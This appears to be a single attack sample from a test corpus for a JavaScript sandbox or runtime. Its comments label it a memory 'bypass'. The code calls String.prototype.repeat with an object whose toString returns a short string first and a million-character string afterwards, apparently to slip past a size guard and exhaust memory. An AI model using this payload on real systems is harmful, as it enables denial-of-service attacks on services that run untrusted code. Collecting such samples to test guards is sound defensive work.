// class: bypass
// attacks: a way around a guard: lying this
// want: Memory
function sync({parent, children}) {
  let n = 0; ''.repeat.call({toString: () => n++ ? 'x'.repeat(1e6) : 'x'}, 6e7); ''.repeat.call({toString: () => n++ ? 'x'.repeat(1e6) : 'x'}, 6e7)
  return {};
}
